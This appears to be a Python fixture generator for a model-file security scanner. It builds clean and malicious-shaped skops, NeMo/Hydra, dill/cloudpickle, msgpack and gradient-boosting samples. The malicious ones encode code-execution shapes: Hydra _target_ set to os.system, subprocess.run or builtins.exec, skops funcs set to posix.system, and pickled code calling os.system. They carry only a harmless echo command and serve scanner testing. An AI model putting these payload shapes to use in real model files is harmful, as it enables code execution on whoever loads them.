"""Long-tail format samples (issue 16): skops archives, NeMo `.nemo` tars and Hydra configurations,
and dill/cloudpickle pickles of functions rebuilt from code.

* skops: a zip whose `schema.json` is the object tree `skops.io.load` rebuilds (`__loader__`,
  `__module__`, `__class__` per node) beside `.npy` arrays; the attacks put a denied function
  where a `FunctionTransformer`'s `func` goes (CVE-2025-54412/54413 class).
* NeMo: a tar of `./model_config.yaml` (instantiated by Hydra: every `_target_` is imported and
  called) and `./model_weights.ckpt` (a torch.save zip); Hydra configurations on their own.
* dill and cloudpickle: the opcodes those libraries write for a function pickled by value
  (`dill._dill._create_code`/`_create_function`, cloudpickle's `_builtin_type('CodeType')` and
  `_make_function`), with fixed code-object fields (the bytecode is never run or interpreted).

Payloads are harmless (`echo quarantine-sample`, 192.0.2.0/24). Standard library only; helpers
come from generate.py (passed in as `g`).
"""

from __future__ import annotations

import io
import json
import struct

CLEAN, SUSPICIOUS, MALICIOUS = "clean", "suspicious", "malicious"
CMD = "echo quarantine-sample"

RULES = {
    "SKP001": ("skops-denied-type", MALICIOUS),
    "SKP002": ("skops-untrusted-type", SUSPICIOUS),
    "SKP003": ("skops-malformed", SUSPICIOUS),
    "NEM001": ("nemo-denied-target", MALICIOUS),
    "NEM002": ("nemo-unknown-target", SUSPICIOUS),
    "NEM003": ("nemo-config-malformed", SUSPICIOUS),
    "MSG001": ("msgpack-malformed", SUSPICIOUS),
    "GBM001": ("gbm-malformed", SUSPICIOUS),
    "PKL010": ("pickle-rebuilds-code", SUSPICIOUS),
    "PKL011": ("pickle-rebuilt-code-host-call", MALICIOUS),
}


# --- skops -------------------------------------------------------------------------------------

_ids = iter(range(140_000_000_000_000, 140_000_000_100_000, 16))


def node(loader: str, module: str, cls: str, **rest) -> dict:
    out = {"__class__": cls, "__module__": module, "__loader__": loader}
    out.update(rest)
    out["__id__"] = next(_ids)
    return out


def json_node(value) -> dict:
    return node("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def dict_node(items: dict) -> dict:
    return node("DictNode", "builtins", "dict", content=items,
                key_types=node("ListNode", "builtins", "list",
                               content=[node("TypeNode", "builtins", "str") for _ in items]))


def npy(values: list[float]) -> bytes:
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % len(values)
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
    return (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
            + struct.pack("<%dd" % len(values), *values))


def skops_zip(g, func: dict) -> bytes:
    """What skops.io.dumps writes for make_pipeline(FunctionTransformer(func), LogisticRegression())
    (arrays as .npy members named by object id, schema.json last)."""
    coef, intercept = "140000000000001.npy", "140000000000002.npy"
    transformer = node("ObjectNode", "sklearn.preprocessing._function_transformer", "FunctionTransformer",
                       content=dict_node({"func": func, "validate": json_node(False),
                                          "kw_args": json_node(None), "_sklearn_version": json_node("1.9.1")}))
    logistic = node("ObjectNode", "sklearn.linear_model._logistic", "LogisticRegression",
                    content=dict_node({
                        "C": json_node(1.0), "max_iter": json_node(100),
                        "coef_": node("NdArrayNode", "numpy", "ndarray", type="numpy", file=coef),
                        "intercept_": node("NdArrayNode", "numpy", "ndarray", type="numpy", file=intercept),
                        "_sklearn_version": json_node("1.9.1")}))
    steps = node("ListNode", "builtins", "list", content=[
        node("TupleNode", "builtins", "tuple", content=[json_node("functiontransformer"), transformer]),
        node("TupleNode", "builtins", "tuple", content=[json_node("logisticregression"), logistic]),
    ])
    schema = node("ObjectNode", "sklearn.pipeline", "Pipeline",
                  content=dict_node({"steps": steps, "memory": json_node(None), "verbose": json_node(False)}))
    schema["protocol"] = 2
    schema["_skops_version"] = "0.11.0"
    return g.zip_of((coef, npy([0.5, -0.25, 1.0])), (intercept, npy([0.1])),
                    ("schema.json", json.dumps(schema, indent=None).encode()))


def path_method(func: str) -> dict:
    """A MethodNode: `getattr(<PosixPath object>, func)` (the CVE-2025-54413 shape)."""
    obj = node("ObjectNode", "pathlib", "PosixPath",
               content=node("TupleNode", "builtins", "tuple", content=[json_node("/tmp/quarantine-sample")]))
    return node("MethodNode", "builtins", "method", content={"func": func, "obj": obj})


# --- NeMo / Hydra ------------------------------------------------------------------------------

NEMO_CONFIG = """\
sample_rate: 16000
target: nemo.collections.asr.models.ctc_models.EncDecCTCModel
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
  features: 64
encoder:
  _target_: nemo.collections.asr.modules.ConvASREncoder
  feat_in: 64
  activation: relu
  jasper:
  - filters: 32
    repeat: 1
    kernel:
    - 11
    dropout: 0.0
    residual: false
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 32
  num_classes: 28
  vocabulary:
  - ' '
  - a
  - b
optim:
  name: adam
  lr: 0.001
  sched:
    name: CosineAnnealing
    warmup_steps: null
train_ds:
  manifest_filepath: null
  batch_size: 4
"""


def nemo_config(preprocessor: str | None = None) -> bytes:
    text = NEMO_CONFIG
    if preprocessor is not None:
        start = text.index("preprocessor:\n")
        end = text.index("encoder:\n")
        text = text[:start] + preprocessor + text[end:]
    return text.encode()


def nemo_tar(g, config: bytes) -> bytes:
    """A `.nemo` as NeMo's SaveRestoreConnector packs its folder: `./`-prefixed names, the
    config first and the torch.save checkpoint last."""
    weights = g.torch_zip(g.ok_dumps(g.state_dict(g.LINEAR), 2))
    return g.build_tar(("./model_config.yaml", config), ("./model_weights.ckpt", weights))


ALIAS_BOMB = "\n".join(
    ["_target_: nemo.collections.asr.modules.ConvASREncoder", "a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    + [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 9)]
) + "\n"


# --- dill / cloudpickle --------------------------------------------------------------------------

# Fields of `def hook(v): import os as _os; _os.system(CMD); return v` as CPython 3.11 compiles
# it, fixed here so that the samples do not depend on the generating interpreter.
HOOK_CODE = bytes.fromhex("9700640164006c007d017c01a00100000000000000000000000000000000000000006402a601"
                          "0000ab01000000000000000001007c005300")
LAMBDA_CODE = bytes.fromhex("97007c0064017a0500005300")


def code_fields(code: bytes, consts: tuple, names: tuple, varnames: tuple, name: str) -> tuple:
    """CodeType(argcount, posonlyargcount, kwonlyargcount, nlocals, stacksize, flags, codestring,
    constants, names, varnames, filename, name, qualname, firstlineno, linetable,
    exceptiontable, freevars, cellvars) on Python 3.11."""
    return (1, 0, 0, len(varnames), 3, 19, code, consts, names, varnames, "<quarantine-sample>",
            name, name, 1, b"\x80\x00", b"", (), ())


def dill_function(g, fields: tuple, name: str):
    create_code = g.Call(g.G("dill._dill", "_create_code"), (b"\x02\x01",) + fields)
    return g.Call(g.G("dill._dill", "_create_function"),
                  (create_code, g.G("__builtin__", "__main__"), name, None, None))


def cloudpickle_function(g, fields: tuple, extra_globals: dict | None = None):
    cp = "cloudpickle.cloudpickle"
    code = g.Call(g.Call(g.G(cp, "_builtin_type"), ("CodeType",)), fields)
    func_globals = {"__package__": None, "__name__": "__main__"}
    func_globals.update(extra_globals or {})
    return g.Call(g.G(cp, "_make_function"), (code, func_globals, None, None, None))


# --- msgpack (Flax) and gradient boosting ------------------------------------------------------


def mp(value) -> bytes:
    """A minimal msgpack packer (what `msgpack.packb` writes for these types)."""
    if value is None:
        return b"\xc0"
    if isinstance(value, bool):
        return b"\xc3" if value else b"\xc2"
    if isinstance(value, int):
        assert 0 <= value < 128
        return bytes([value])
    if isinstance(value, float):
        return b"\xcb" + struct.pack(">d", value)
    if isinstance(value, str):
        data = value.encode()
        assert len(data) < 32
        return bytes([0xA0 | len(data)]) + data
    if isinstance(value, bytes):
        return b"\xc4" + bytes([len(value)]) + value
    if isinstance(value, tuple) and value and value[0] == "ext":
        _, code, payload = value
        return b"\xc7" + bytes([len(payload), code]) + payload
    if isinstance(value, (list, tuple)):
        assert len(value) < 16
        return bytes([0x90 | len(value)]) + b"".join(mp(v) for v in value)
    if isinstance(value, dict):
        assert len(value) < 16
        return bytes([0x80 | len(value)]) + b"".join(mp(k) + mp(v) for k, v in value.items())
    raise TypeError(value)


def flax_array(shape: tuple, values: list[float]) -> tuple:
    """Flax's ndarray extension (code 1): msgpack of (shape, dtype name, raw bytes)."""
    return ("ext", 1, mp((list(shape), "float32", struct.pack("<%df" % len(values), *values))))


def flax_state() -> bytes:
    return mp({"params": {"Dense_0": {"bias": flax_array((2,), [0.0, 0.0]),
                                      "kernel": flax_array((2, 2), [0.5, -0.5, 0.25, 1.0])}},
               "step": 3})


def ubj_key(name: str) -> bytes:
    return b"L" + struct.pack(">q", len(name)) + name.encode()


def xgboost_ubj() -> bytes:
    """The start of what XGBoost's UBJWriter writes: `{` and int64-length keys, typed float arrays."""
    names = b"[#L" + struct.pack(">q", 2) + b"".join(b"S" + ubj_key(n) for n in ("age", "income"))
    weights = b"[$d#L" + struct.pack(">q", 2) + struct.pack(">ff", 0.5, -0.5)
    learner = (b"{" + ubj_key("attributes") + b"{}" + ubj_key("feature_names") + names
               + ubj_key("leaf_weights") + weights + b"}")
    version = b"[#L" + struct.pack(">q", 3) + b"i\x03i\x01i\x02"
    return b"{" + ubj_key("learner") + learner + ubj_key("version") + version + b"}"


def catboost_cbm(root: int = 4) -> bytes:
    """`CBM1`, the little-endian core size, then a FlatBuffer whose first word is its root offset."""
    core = struct.pack("<I", root) + b"\x00" * 12
    return b"CBM1" + struct.pack("<I", len(core)) + core


def fresh_ids(register):
    """`register` whose builds each number their skops nodes from the same start, so that a
    sample is the same bytes however many times and in whatever order it is built."""
    def wrapped(*args, build, **kwargs):
        def build_fresh():
            global _ids
            _ids = iter(range(140_000_000_000_000, 140_000_000_100_000, 16))
            return build()
        register(*args, build=build_fresh, **kwargs)
    return wrapped


def samples(register, g) -> None:
    register = fresh_ids(register)
    hook = code_fields(HOOK_CODE, (None, 0, CMD), ("os", "system"), ("v", "_os"), "hook")
    double = code_fields(LAMBDA_CODE, (None, 2), (), ("v",), "<lambda>")
    evil_eval = code_fields(LAMBDA_CODE, (None, "eval"), ("getattr",), ("payload",), "_obfuscated_eval")

    # --- skops ---
    register("benign/skops_pipeline.skops", CLEAN,
             desc="skops.io.dumps of make_pipeline(FunctionTransformer(numpy.log1p), LogisticRegression()): "
                  "schema.json and .npy arrays",
             build=lambda: skops_zip(g, node("FunctionNode", "numpy", "log1p")))
    register("malicious/skops_func_posix_system.skops", MALICIOUS, ("SKP001", "system"),
             desc="skops schema whose FunctionTransformer func is a FunctionNode for posix.system (CVE-2025-54412 class)",
             build=lambda: skops_zip(g, node("FunctionNode", "posix", "system")))
    register("malicious/skops_func_runstring.skops", MALICIOUS, ("SKP001", "runstring"),
             desc="skops schema whose func is numpy.testing._private.utils.runstring (exec of a string)",
             build=lambda: skops_zip(g, node("FunctionNode", "numpy.testing._private.utils", "runstring")))
    register("malicious/skops_method_write_text.skops", MALICIOUS, ("SKP001", "write_text"),
             desc="skops schema whose func is a MethodNode: getattr(PosixPath('/tmp/…'), 'write_text') "
                  "(CVE-2025-54413 class)",
             build=lambda: skops_zip(g, path_method("write_text")))
    register("malicious/skops_operator_methodcaller.skops", MALICIOUS, ("SKP001", "methodcaller"),
             desc="skops OperatorFuncNode: getattr(operator, 'methodcaller')(…) whatever its __module__ says",
             build=lambda: skops_zip(g, node("OperatorFuncNode", "sklearn.utils", "methodcaller",
                                             attrs=node("TupleNode", "builtins", "tuple",
                                                        content=[json_node("system")]))))
    register("malicious/skops_unknown_function.skops", SUSPICIOUS, ("SKP002", "mypkg.features.scale"),
             desc="skops schema whose func comes from a package on neither list (what get_untrusted_types lists)",
             build=lambda: skops_zip(g, node("FunctionNode", "mypkg.features", "scale")))
    register("malicious/skops_unknown_loader.skops", SUSPICIOUS, ("SKP003", "PickleNode"),
             desc="skops schema naming a loader skops does not have (skops refuses the file)",
             build=lambda: skops_zip(g, node("PickleNode", "builtins", "object")))

    # --- NeMo / Hydra ---
    register("benign/nemo_asr.nemo", CLEAN,
             desc="a .nemo tar: ./model_config.yaml (Hydra targets in nemo.collections) and ./model_weights.ckpt "
                  "(torch.save zip, read from the tar's end as a zip too)",
             build=lambda: nemo_tar(g, nemo_config()))
    register("benign/hydra_model_config.yaml", CLEAN,
             desc="a NeMo model_config.yaml on its own",
             build=lambda: nemo_config())
    register("malicious/nemo_target_os_system.nemo", MALICIOUS, ("NEM001", "os.system"),
             desc="a .nemo whose preprocessor _target_ is os.system with the command as argument (CVE-2025-23304)",
             build=lambda: nemo_tar(g, nemo_config(f"preprocessor:\n  _target_: os.system\n  command: {CMD}\n")))
    register("malicious/nemo_target_subprocess_partial.nemo", MALICIOUS, ("NEM001", "subprocess.run"),
             desc="a .nemo whose _target_ is subprocess.run with _args_ and _partial_ (called later by NeMo)",
             build=lambda: nemo_tar(g, nemo_config(
                 "preprocessor:\n  _target_: subprocess.run\n  _partial_: true\n  _args_:\n"
                 "  - - sh\n    - -c\n    - echo quarantine-sample\n")))
    register("malicious/hydra_target_builtins_exec.yaml", MALICIOUS, ("NEM001", "exec"),
             desc="a Hydra config whose nested _target_ is builtins.exec",
             build=lambda: nemo_config(f"preprocessor:\n  _target_: builtins.exec\n  _args_:\n  - print('{CMD}')\n"))
    register("malicious/hydra_target_interpolated.yaml", MALICIOUS, ("NEM001", "${parts.module}.${parts.fn}"),
             desc="a Hydra config whose _target_ is built by OmegaConf interpolation from two keys (builtins + exec)",
             build=lambda: nemo_config("parts:\n  module: builtins\n  fn: exec\npreprocessor:\n"
                                       "  _target_: ${parts.module}.${parts.fn}\n  _args_:\n"
                                       f"  - print('{CMD}')\n"))
    register("malicious/hydra_target_oc_decode.yaml", MALICIOUS, ("NEM001", "posix.system"),
             desc="a Hydra config whose _target_ is the oc.decode resolver of a quoted posix.system",
             build=lambda: nemo_config("preprocessor:\n  _target_: ${oc.decode:'\"posix.system\"'}\n"
                                       "  _args_:\n  - echo quarantine-sample\n"))
    register("malicious/nemo_unknown_target.nemo", SUSPICIOUS, ("NEM002", "mypkg.layers.Custom"),
             desc="a .nemo whose _target_ is a class from a package on neither list",
             build=lambda: nemo_tar(g, nemo_config("preprocessor:\n  _target_: mypkg.layers.Custom\n  size: 3\n")))
    register("malicious/hydra_alias_bomb.yaml", SUSPICIOUS, ("NEM003", "alias"),
             desc="a Hydra config whose anchors and aliases expand to 9^9 scalars (billion laughs)",
             build=lambda: ALIAS_BOMB.encode())

    # --- dill / cloudpickle ---
    register("malicious/dill_code_os_system.pkl", MALICIOUS, ("PKL011", "system"),
             desc="dill.dumps of a function whose code imports os and calls os.system "
                  "(_create_function(_create_code(…)))",
             build=lambda: g.ok_dumps(dill_function(g, hook, "hook"), 4))
    register("malicious/dill_code_lambda.pkl", SUSPICIOUS, ("PKL010", "<lambda>"),
             desc="dill.dumps of `lambda v: v * 2`: a function rebuilt from code, harmless by name",
             build=lambda: g.ok_dumps(dill_function(g, double, "<lambda>"), 4))
    register("malicious/cloudpickle_code_eval.pkl", MALICIOUS, ("PKL011", "eval"),
             desc="cloudpickle.dumps of a function whose code does getattr(…, 'eval') "
                  "(_make_function(_builtin_type('CodeType')(…)))",
             build=lambda: g.ok_dumps(cloudpickle_function(g, evil_eval), 4))
    register("malicious/cloudpickle_code_lambda.pkl", SUSPICIOUS, ("PKL010", "<lambda>"),
             desc="cloudpickle.dumps of `lambda v: v * 2`",
             build=lambda: g.ok_dumps(cloudpickle_function(g, double), 4))
    register("malicious/cloudpickle_subimport_os.pkl", MALICIOUS, ("PKL001", "subimport"),
             desc="cloudpickle function whose globals import os with subimport('os')",
             build=lambda: g.ok_dumps(cloudpickle_function(
                 g, double, {"os": g.Call(g.G("cloudpickle.cloudpickle", "subimport"), ("os",))}), 4))

    # --- msgpack / gradient boosting ---
    register("benign/flax_state.msgpack", CLEAN,
             desc="flax.serialization.to_bytes of {'params': {'Dense_0': {bias, kernel}}, 'step': 3}: "
                  "arrays as extension 1",
             build=flax_state)
    register("malicious/flax_state_truncated.msgpack", SUSPICIOUS, ("MSG001", "runs past the end"),
             desc="the Flax state cut short inside its last array (msgpack.unpackb refuses it)",
             build=lambda: flax_state()[:-20] + b"\xc0" * 0)
    register("benign/xgboost_model.ubj", CLEAN,
             desc="an XGBoost UBJSON model as UBJWriter writes it (int64 key lengths, typed float arrays)",
             build=xgboost_ubj)
    register("malicious/xgboost_count_overrun.ubj", SUSPICIOUS, ("GBM001", "more than the bytes left"),
             desc="an XGBoost UBJSON model whose feature_names array declares 2^40 items in a few bytes",
             build=lambda: xgboost_ubj().replace(b"[#L" + struct.pack(">q", 2) + b"S",
                                                 b"[#L" + struct.pack(">q", 1 << 40) + b"S", 1))
    register("benign/catboost_model.cbm", CLEAN,
             desc="a CatBoost .cbm: CBM1, the model core's size, a FlatBuffer core",
             build=catboost_cbm)
    register("malicious/catboost_root_outside.cbm", SUSPICIOUS, ("GBM001", "root table"),
             desc="a CatBoost .cbm whose FlatBuffer root offset points past its core",
             build=lambda: catboost_cbm(root=4096))
